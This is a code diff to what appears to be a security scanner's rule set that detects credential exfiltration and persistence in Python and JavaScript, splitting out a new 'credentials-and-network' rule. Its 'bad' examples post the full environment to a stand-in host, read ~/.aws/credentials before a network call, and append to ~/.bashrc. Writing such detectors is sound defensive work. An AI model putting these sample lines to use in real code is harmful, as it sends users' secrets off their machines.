@@ -1,4 +1,5 @@
 import { RULE_LANGUAGES, type Rule } from '../rule.ts';
+import { ASKS } from './kinds.ts';
 
 const BOTH = ['python', 'javascript'] as const;
 const PY_SENDS = [
@@ -53,15 +54,7 @@ export const ABUSE: readonly Rule[] = [
     message: '{} sends the environment or a sensitive file away',
     why: 'Credentials leave the machine.',
     remedy: 'Remove it.',
-    match: [
-      { call: PY_SENDS, when: [{ arg: 'any', is: 'secret' }] },
-      {
-        together: [
-          ['credential-file', 'cloud-metadata'],
-          ['py-request', 'py-open-url', 'py-connect', 'py-request-without-timeout'],
-        ],
-      },
-    ],
+    match: { call: PY_SENDS, when: [{ arg: 'any', is: 'secret' }] },
     bad: 'import os, requests\nrequests.post("http://x.example", data=dict(os.environ), timeout=1)',
     good: 'import requests\nrequests.post("http://x.example", data={"a": 1}, timeout=1)',
   },
@@ -76,12 +69,6 @@ export const ABUSE: readonly Rule[] = [
     why: 'Credentials leave the machine.',
     remedy: 'Remove it.',
     match: [
-      {
-        together: [
-          ['credential-file', 'cloud-metadata'],
-          ['js-request', 'js-socket'],
-        ],
-      },
       { assign: /^(?:src|href|action)$/, when: [{ arg: 'value', is: 'secret' }] },
       { call: JS_SENDS, when: [{ arg: ['body', 'data', 'json', 1, 0], is: 'secret' }] },
       {
@@ -94,6 +81,28 @@ export const ABUSE: readonly Rule[] = [
     ],
     bad: "fetch('http://x.example', { method: 'POST', body: JSON.stringify(process.env) });",
     good: "fetch('http://x.example', { method: 'POST', body: 'a' });",
+  },
+  {
+    id: 'credentials-and-network',
+    languages: BOTH,
+    severity: 'high',
+    confidence: 'high',
+    category: 'abuse',
+    cwe: 200,
+    message: 'a program that names a file or service of credentials talks to somebody, by {}',
+    why: 'What opens other doors may leave the machine.',
+    remedy: 'Give the program the one thing that it needs, as input.',
+    match: {
+      together: [
+        ['credential-file', 'cloud-metadata'],
+        [
+          ...['py-request', 'py-open-url', 'py-connect', 'py-request-without-timeout'],
+          ...['js-request', 'js-socket'],
+        ],
+      ],
+    },
+    bad: 'import os, requests\nkeys = open(os.path.expanduser("~/.aws/credentials"))\nrequests.post(url, timeout=1)',
+    good: 'import requests\nrequests.post(url, timeout=1)',
   },
   {
     id: 'exfiltration-address',
@@ -138,9 +147,7 @@ export const ABUSE: readonly Rule[] = [
     message: '{} is run at every start or login',
     why: 'What is written there stays on the machine and runs again.',
     remedy: 'Let an installer do it, where the user sees it.',
-    match: {
-      text: PERSISTENT,
-    },
+    match: { text: PERSISTENT, notFor: ASKS },
     bad: 'import os\nopen(os.path.expanduser("~/.bashrc"), "a")',
     good: 'open("bashrc.txt", "a")',
   },
